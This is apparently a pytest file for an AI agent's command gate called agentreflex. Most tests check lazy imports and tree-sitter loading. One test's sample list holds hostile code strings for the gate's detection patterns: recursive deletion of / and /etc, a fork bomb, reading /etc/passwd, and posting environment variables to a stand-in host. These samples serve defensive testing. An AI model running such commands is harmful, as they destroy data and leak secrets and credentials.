"""What a hook process pays for the gate: lazy imports, the direct tree-sitter load, guards.

Every hook call is a new process, so the gate keeps its import light: rarely
needed modules and the parser are imported on first use, regexes compile on
first use, and tree-sitter's compiled modules are loaded without their
packages' ``__init__`` (see :mod:`agentreflex.gate.shell.parser`).
"""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from agentreflex.core.util.lazyre import LazyPattern
from agentreflex.gate.code import interp
from agentreflex.gate.shell import parser as _tree

CORPUS = Path(__file__).parent / "corpus"

# Never imported by the gate on an ordinary PreToolUse call (on top of what core imports).
HEAVY = {
    "typing",
    "dataclasses",
    "inspect",
    "pathlib",
    "ipaddress",
    "urllib.parse",
    "shlex",
    "glob",
    "fnmatch",
    "tempfile",
    "hashlib",
    "datetime",
    "binascii",
    "importlib.resources",
    "importlib.metadata",
    "tree_sitter",
    "tree_sitter_bash",
}
RARE = {"agentreflex.gate.shell.fallback", "agentreflex.gate.shell.remote"}

_PROBE = """
import json, sys
# what the gate imports from core, so only the gate's own additions are seen
import agentreflex.core.config.settings, agentreflex.core.decision, agentreflex.core.events
import agentreflex.core.util.lazyre, agentreflex.core.util.record, agentreflex.core.redaction.redact
import agentreflex.core.reflex
before = set(sys.modules)
import agentreflex.gate.reflex
from agentreflex.gate import allow
from agentreflex.gate.rules import constraints
from agentreflex.gate.check import check_command
seen = {"import": sorted(set(sys.modules) - before)}
for command in sys.argv[1:]:
    check_command(command, cwd="/tmp/proj", home="/tmp")
    allow.allow_entries("/nonexistent"), allow.user_rules("/nonexistent")
    constraints.from_state([])
    seen[command] = sorted(set(sys.modules) - before)
print(json.dumps(seen))
"""


def _python(code: str, *args: str) -> str:
    done = subprocess.run(
        [sys.executable, "-c", code, *args], capture_output=True, text=True, check=False
    )
    assert done.returncode == 0, done.stderr
    return done.stdout


def test_an_ordinary_call_imports_nothing_heavy() -> None:
    plain, compound, code = "git status", "git status && npm test", "python3 -c 'print(1)'"
    seen = json.loads(_python(_PROBE, plain, compound, code))
    for stage, modules in seen.items():
        assert not HEAVY & set(modules), (stage, sorted(HEAVY & set(modules)))
        assert not RARE & set(modules), (stage, sorted(RARE & set(modules)))
    # the pre-filter decides `git status`: no walker, no parser
    for stage in ("import", plain):
        assert "agentreflex.gate.shell.walker" not in seen[stage]
        assert "tree_sitter._binding" not in seen[stage]
    assert {
        "agentreflex.gate.shell.walker",
        "tree_sitter._binding",
        "tree_sitter_bash._binding",
    } <= set(seen[compound])


_CODE_PARSERS = {
    "ast",
    "agentreflex.gate.code.pycode",
    "agentreflex.gate.code.tscode",
    "tree_sitter_javascript._binding",
    "tree_sitter_ruby._binding",
    "tree_sitter_perl._binding",
    "tree_sitter_php._binding",
    "tree_sitter_lua._binding",
}


def test_code_parsers_load_only_for_the_code_of_their_language() -> None:
    """``ast`` and each grammar are loaded by the command that runs code in that
    language, and only the compiled module (not the grammar package's ``__init__``)."""
    plain, compound = "git status", "git status && npm test && make -n"
    python, node = "python3 -c 'import os; print(1)'", "node -e 'console.log(1)'"
    ruby = "ruby -e 'puts 1'"
    seen = {k: set(v) for k, v in json.loads(_python(_PROBE, plain, compound, python)).items()}
    for stage in ("import", plain, compound):
        assert not _CODE_PARSERS & seen[stage], (stage, sorted(_CODE_PARSERS & seen[stage]))
    assert {"ast", "agentreflex.gate.code.pycode"} <= seen[python]
    assert not {m for m in seen[python] if m.startswith("tree_sitter_") and "bash" not in m}
    seen = {k: set(v) for k, v in json.loads(_python(_PROBE, node, ruby)).items()}
    assert "tree_sitter_javascript._binding" in seen[node]
    assert "tree_sitter_ruby._binding" not in seen[node]
    assert "tree_sitter_ruby._binding" in seen[ruby]
    assert "ast" not in seen[ruby] and "agentreflex.gate.code.pycode" not in seen[ruby]
    assert not {"tree_sitter_javascript", "tree_sitter_ruby"} & seen[ruby]  # packages not run
    assert not HEAVY & seen[ruby], sorted(HEAVY & seen[ruby])


def test_a_grammar_falls_back_to_the_ordinary_import() -> None:
    out = _python(
        "import sys\n"
        "from agentreflex.gate.shell import parser as _tree\n"
        "def boom(package):\n"
        "    raise ImportError('layout changed')\n"
        "_tree._extension = boom\n"
        "tree = _tree.grammar_parser('tree_sitter_lua').parse(b'os.remove(\"x\")')\n"
        "print(tree.root_node.type, tree.root_node.has_error, 'tree_sitter_lua' in sys.modules)"
    )
    assert out.split() == ["chunk", "False", "True"]


# --- tree-sitter: the direct load and its fallback ---------------------------


def test_parser_loads_the_compiled_modules_without_their_packages() -> None:
    out = _python(
        "import sys\n"
        "from agentreflex.gate.shell import parser as _tree\n"
        "root = _tree.parse('ls -la | wc -l')\n"
        "print(root.type, root.has_error, sorted(m for m in sys.modules if 'tree_sitter' in m))"
    )
    assert out.split(" ", 2)[:2] == ["program", "False"]
    assert "['tree_sitter._binding', 'tree_sitter_bash._binding']" in out


def test_parser_falls_back_to_the_ordinary_import() -> None:
    out = _python(
        "import sys\n"
        "from agentreflex.gate.shell import parser as _tree\n"
        "def boom(package):\n"
        "    raise ImportError('layout changed')\n"
        "_tree._extension = boom\n"
        "root = _tree.parse('rm -rf build')\n"
        "print(root.type, root.has_error, 'tree_sitter' in sys.modules)"
    )
    assert out.split() == ["program", "False", "True"]


def test_fallback_in_process(monkeypatch: pytest.MonkeyPatch) -> None:
    def boom(package: str) -> Any:
        raise OSError(package)

    monkeypatch.setattr(_tree, "_extension", boom)
    monkeypatch.setattr(_tree, "_PARSER", None)
    root = _tree.parse("echo hi > out.txt")
    assert root.type == "program" and not root.has_error


def test_an_ordinary_import_reuses_the_loaded_extension() -> None:
    _tree.parse("true")  # loaded (directly, or already by an earlier test)
    import tree_sitter

    assert tree_sitter.Parser is _tree._extension("tree_sitter").Parser
    assert isinstance(_tree.parser(), tree_sitter.Parser)


# --- interp: literal guards in front of the code-scanning patterns -------------

_WORDED = {name: v for name, v in vars(interp).items() if isinstance(v, LazyPattern) and v.hints}


def test_the_code_scanning_patterns_are_hinted() -> None:
    """Their proof is tests/test_pattern_hints.py, for every hinted pattern of every package."""
    assert len(_WORDED) >= 8


def test_protected_patterns_find_what_the_bare_patterns_find() -> None:
    samples = [
        'import shutil; shutil.rmtree("/etc")',
        "require('child_process').execSync(`rm -rf ${dir}`)",
        "system('rm -rf /') for 1..3; qx(ls); %x{whoami}",
        "import os, requests; requests.post('http://x', data=dict(os.environ))",
        "while True: os.fork()",
        "print(open('/etc/passwd').read())",
        "import json, sys; print(json.load(sys.stdin)['x'])",
    ]
    for path in sorted(CORPUS.glob("*/*.jsonl")):
        for line in path.read_text().splitlines():
            if line.strip():
                samples.append(json.loads(line)["command"])
    for name, worded in _WORDED.items():
        for code in samples:
            got = [m.span() for m in worded.finditer(code)]
            assert got == [m.span() for m in worded.compiled.finditer(code)], (name, code)
            assert (worded.search(code) is None) == (worded.compiled.search(code) is None)


def test_interpreter_name_without_compiling_for_ordinary_names() -> None:
    assert interp.interpreter_name("python3.11") == "python3"
    assert interp.interpreter_name("/usr/bin/node18") == "node"
    assert interp.interpreter_name("perl5.36") == "perl"
    assert interp.interpreter_name("pythonista") == ""
    assert interp.interpreter_name("git") == ""
    assert interp.interpreter_name("npm") == ""
